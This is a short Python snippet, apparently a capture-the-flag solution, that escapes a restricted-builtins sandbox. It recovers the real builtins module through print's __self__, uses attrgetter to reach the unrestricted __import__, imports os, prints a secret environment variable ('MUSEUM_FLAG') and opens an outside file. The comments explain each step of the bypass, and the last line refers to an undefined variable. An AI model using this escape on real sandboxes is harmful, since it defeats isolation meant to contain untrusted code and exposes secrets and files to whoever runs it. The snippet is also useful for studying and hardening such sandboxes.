# A built-in function knows the module that it belongs to: print leads to builtins, and builtins
# has everything that was taken away.
from operator import attrgetter

# print is the real print: the curated builtins are a copy of the table, not of the functions.
# Its __self__ is the real module builtins.
builtins = attrgetter("__self__")(print)

# The real __import__ has no allowlist. os is loaded already, so nothing is read from a disk.
real_import = attrgetter("__import__")(builtins)
os = real_import("os")

print(os.environ["MUSEUM_FLAG"])
print(builtins.open(outside["file"]).read())
